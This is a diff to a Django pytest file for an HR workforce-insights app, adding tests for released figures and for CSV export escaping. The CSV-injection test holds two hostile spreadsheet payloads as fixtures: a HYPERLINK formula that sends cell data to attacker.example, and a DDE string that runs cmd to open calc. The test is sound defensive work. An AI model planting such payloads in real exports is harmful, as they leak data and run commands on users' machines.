@@ -10,11 +10,17 @@ import pytest
 from django.urls import reverse
 
 from upward.reports.hr_file import HrSnapshot
-from upward.reports.workforce import analyse
+from upward.reports.synthetic_workforce import synthetic_csv
+from upward.reports.workforce import protected_analysis
 from upward.web.core.models import AuditEntry
 from upward.web.insights.models import Snapshot, SnapshotData
 from upward.web.insights.selectors import survey_answers_for_analysis
-from upward.web.insights.services import organisation_question_create, survey_save
+from upward.web.insights.services import (
+    organisation_question_create,
+    release_create,
+    release_ledger,
+    survey_save,
+)
 
 
 @pytest.fixture
@@ -44,11 +50,16 @@ def test_the_web_publishes_exactly_what_the_library_publishes(personas, client, 
 
     survey_save(user=personas["member"], answers={"main_earner_occupation": "professional"},
                 employee_id="E000001")
+    ledger = release_ledger()
+    release = release_create(actor=personas["analyst"], snapshot=snapshot, reason="test")
     _, secret = token_create(user=personas["analyst"], name="t")
     body = client.get(f"/api/v1/insights/snapshots/{snapshot.pk}",
                       headers={"Authorization": f"Bearer {secret}"}).json()
+    assert body["release"]["id"] == release.pk
     stored = HrSnapshot.from_parquet(bytes(SnapshotData.objects.get(snapshot=snapshot).parquet))
-    expected = analyse(stored, survey=survey_answers_for_analysis(), k=10).to_dict()
+    expected = protected_analysis(stored, survey=survey_answers_for_analysis(), k=10,
+                                  ledger=ledger, noise_seed=release.noise_seed
+                                  ).insights.to_dict()
     assert body["sections"] == expected["sections"]
     assert body["key_figures"] == pytest.approx(expected["key_figures"], nan_ok=True)
 
@@ -74,6 +85,37 @@ def test_csv_export_is_the_published_table_and_is_audited(analyst_client, snapsh
     assert entry.object_id == str(snapshot.pk)
     missing = analyst_client.get(reverse("insights:export_csv", args=["no_such_table"]))
     assert missing.status_code == 404
+
+
+def test_csv_exports_cannot_carry_a_formula(analyst_client, personas, workforce, client):
+    """A function name from the HR file, or an answer a lead typed, that a spreadsheet would
+    run as a formula is exported as text (OWASP CSV injection), on the page and in the API."""
+    from dataclasses import replace as dc_replace
+
+    from upward.web.accounts.services import token_create
+    from upward.web.insights.services import snapshot_import_file
+
+    evil = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'
+    functions = workforce.function.copy()
+    functions[functions == "Operations"] = evil
+    data = synthetic_csv(dc_replace(workforce, function=functions))
+    stored = snapshot_import_file(actor=personas["analyst"], content=data, source_name="hr.csv",
+                                  snapshot_date=date(2025, 3, 31))
+    url = reverse("insights:export_csv", args=["representation_by_function"])
+    rows = list(csv.reader(io.StringIO(
+        analyst_client.get(f"{url}?snapshot={stored.pk}").content.decode())))
+    labels = [row[0] for row in rows]
+    assert "'" + evil in labels and evil not in labels
+    _, secret = token_create(user=personas["analyst"], name="t")
+    api = client.get(f"/api/v1/insights/snapshots/{stored.pk}/tables/representation_by_function"
+                     "?format=csv", headers={"Authorization": f"Bearer {secret}"})
+    assert "'" + evil in [row[0] for row in csv.reader(io.StringIO(api.content.decode()))]
+
+    question = organisation_question_create(actor=personas["lead"], text="Pick one",
+                                            options=["@SUM(1+1)*cmd|' /C calc'!A0", "No"])
+    url = reverse("insights:export_csv", args=[f"organisation_question_{question.pk}"])
+    rows = list(csv.reader(io.StringIO(analyst_client.get(url).content.decode())))
+    assert rows[1][0] == "'@SUM(1+1)*cmd|' /C calc'!A0"
 
 
 def test_html_report_download_is_audited(analyst_client, snapshot):
@@ -125,6 +167,10 @@ def test_deleting_a_snapshot_is_audited(analyst_client, snapshot):
 
 def test_k_is_configurable_but_never_below_5(analyst_client, snapshot, settings):
     settings.UPWARD_INSIGHTS_K = 20
+    page = analyst_client.get(reverse("insights:dashboard")).content.decode()
+    # Figures released under k = 10 are not shown once k is 20: they are released again.
+    assert "have not been released yet" in page and "fewer than 10" not in page
+    analyst_client.post(reverse("insights:release", args=[snapshot.pk]))
     page = analyst_client.get(reverse("insights:dashboard")).content.decode()
     assert "fewer than 20" in page and "fewer than 10" not in page
     settings.UPWARD_INSIGHTS_K = 3
